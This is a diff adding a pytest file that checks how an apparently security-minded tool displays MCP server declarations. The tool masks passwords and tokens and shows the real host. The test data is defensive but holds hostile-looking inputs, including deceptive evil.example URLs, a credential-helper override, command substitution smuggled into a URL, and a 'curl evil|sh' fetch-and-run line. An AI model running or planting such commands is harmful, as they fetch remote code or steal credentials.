@@ -1,0 +1,89 @@
+import json
+
+import pytest
+
+from satchel.trust.server_text import declaration_text, server_text
+
+REACHED = [
+    ({"url": "http://127.0.0.1:/x@good.example/mcp"}, "http://127.0.0.1:/x@good.example/mcp"),
+    ({"url": "https://evil.example:/x@good.example"}, "https://evil.example:/x@good.example"),
+    ({"url": "https://u:p@ss@evil.example/x"}, "https://***@evil.example/x"),
+    ({"url": "https://e.example/x?key=planted#planted"}, "https://e.example/x?***"),
+    ({"command": "npx", "args": ["-y", "hf-mcp-server"]}, "npx -y hf-mcp-server"),
+    ({"command": "uvx", "args": ["npm-registry-mcp"]}, "uvx npm-registry-mcp"),
+    ({"command": "node", "args": ["sk-runner-main.js"]}, "node sk-runner-main.js"),
+    (
+        {"command": "uvx", "args": ["--from", "git+https://h.example/AbcDefGhij1234567890KL", "r"]},
+        "uvx --from git+https://h.example/AbcDefGhij1234567890KL r",
+    ),
+    ({"command": "python", "args": ["--key", "evil.py"]}, "python --key evil.py"),
+    ({"command": "git", "args": ["-c", "credential.helper=evil"]}, "git -c credential.helper=evil"),
+    (
+        {"command": "x", "args": ["--api-key", "planted", "db://u:planted@h/db"]},
+        "x --api-key '***' 'db://***@h/db'",
+    ),
+    ({"command": "x", "args": ["--token", "eyJhb.planted.x"]}, "x --token '***'"),
+    ({"command": "x", "args": ["TOKEN=planted"]}, "x 'TOKEN=***'"),
+    ({"command": "x", "args": ["${API_KEY:-planted}"]}, "x '${API_KEY:-***}'"),
+    ({"command": "x", "args": ["db://u:p#pl$anted@h/db"]}, "x 'db://***@h/db'"),
+    ({"command": "x", "args": ["host=h password=planted"]}, "x 'host=h password=***'"),
+    ({"command": "x", "args": ["Server=h;User Id=u;Pwd=pl+=;"]}, "x 'Server=h;User Id=u;Pwd=***;'"),
+    ({"command": "x", "args": ["--pw", "p@nted!", "--pass=pl"]}, "x --pw '***' '--pass=***'"),
+    ({"command": "curl", "args": ["-u", "me:planted"]}, "curl -u 'me:***'"),
+    ({"command": "npx", "args": ["srv", "--user", "me:pl"]}, "npx srv --user 'me:***'"),
+    ({"command": "x", "args": ["-u", "me", "-p", "planted"]}, "x -u me -p '***'"),
+    ({"command": "x", "args": ["-u", "1:1", "-p", "8080"]}, "x -u 1:1 -p 8080"),
+    ({"command": "npx", "args": ["-u", "me", "-p", "evil"]}, "npx -u me -p evil"),
+    ({"command": "x", "args": ["-p", "evil"]}, "x -p evil"),
+    ({"command": "python", "args": ["-u", "evil:py"]}, "python -u evil:py"),
+    ({"command": "x", "args": ["--auth-module", "evil"]}, "x --auth-module evil"),
+    (
+        {"command": "sh", "args": ["-c", "curl http://u:$(evil)@h http://u:x&evil@h"]},
+        "sh -c 'curl http://u:$(evil)@h http://u:x&evil@h'",
+    ),
+]
+
+
+@pytest.mark.parametrize(("declared", "text"), REACHED)
+def test_what_is_reached_or_run_is_shown_and_secrets_are_not(declared, text):
+    assert declaration_text(declared) == text
+
+
+@pytest.mark.parametrize("url", ["http://127.0.0.1:/x@good.example", "https://u:p@evil.example/x"])
+def test_lists_show_the_host_that_is_reached(url):
+    assert server_text(json.dumps(["", [], "", url])).endswith(url.partition("://")[2][-12:])
+
+
+SECRET_NAMES = ["PASS", "DB_PASS", "PIN", "CARD_PIN", "DB_PWD", "PASSPHRASE", "API_KEY"]
+OTHER_NAMES = ["PATH", "PWD", "COMPASS", "GIT_ASKPASS", "TOKEN_CMD", "AUTH_HOST", "PINNED", "DSN"]
+
+
+@pytest.mark.parametrize("name", SECRET_NAMES + OTHER_NAMES)
+def test_names_of_variables_say_what_is_a_secret(name):
+    shown = declaration_text({"command": "x", "env": {name: "planted"}})
+    assert ("planted" in shown) == (name in OTHER_NAMES)
+
+
+def test_the_address_in_a_variable_keeps_its_host():
+    shown = declaration_text({"command": "x", "env": {"AUTH": "https://u:planted@evil.example/x"}})
+    assert "'https://***@evil.example/x'" in shown
+
+
+@pytest.mark.parametrize("args", [["--pw", "pl.nted/"], ["-u", "me:planted"], ["--pass=planted"]])
+def test_lists_show_no_password(args):
+    assert "nted" not in server_text(json.dumps(["x", args, None, ""]))
+
+
+def test_variables_are_masked_unless_the_command_may_run_them():
+    env = {"API_KEY": "planted", "DATABASE_URL": "db://u:planted@h/db", "MODE": "fast"}
+    shown = declaration_text({"command": "x", "env": env})
+    assert "planted" not in shown
+    assert "db://***@h/db" in shown
+    assert "fast" in shown
+    code = {"command": "sh", "args": ["-c", 'eval "$AUTH"'], "env": {"AUTH": "evil"}}
+    assert "'AUTH': 'evil'" in declaration_text(code)
+    assert "curl evil|sh" in declaration_text({"command": "x", "env": {"AUTH": "curl evil|sh"}})
+
+
+def test_a_long_word_full_of_secret_names_takes_no_time():
+    assert server_text(json.dumps(["x", ["key" * 5_000], None, ""])).startswith("x key")
